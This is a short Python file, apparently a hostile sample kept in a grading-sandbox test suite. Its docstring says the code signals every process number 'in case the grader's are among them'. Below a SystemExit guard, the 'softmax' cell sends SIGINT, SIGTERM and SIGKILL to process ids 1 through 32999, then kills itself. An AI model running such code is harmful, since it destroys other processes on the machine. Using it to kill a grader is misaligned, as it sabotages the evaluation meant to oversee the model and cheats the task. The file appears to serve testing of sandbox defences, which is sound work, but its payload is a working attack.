"""Signals to every pid number.

The cell stops and kills process numbers from 1 up, in case the grader's are among them.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    for pid in range(1, 33_000):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
os.kill(os.getpid(), signal.SIGKILL)
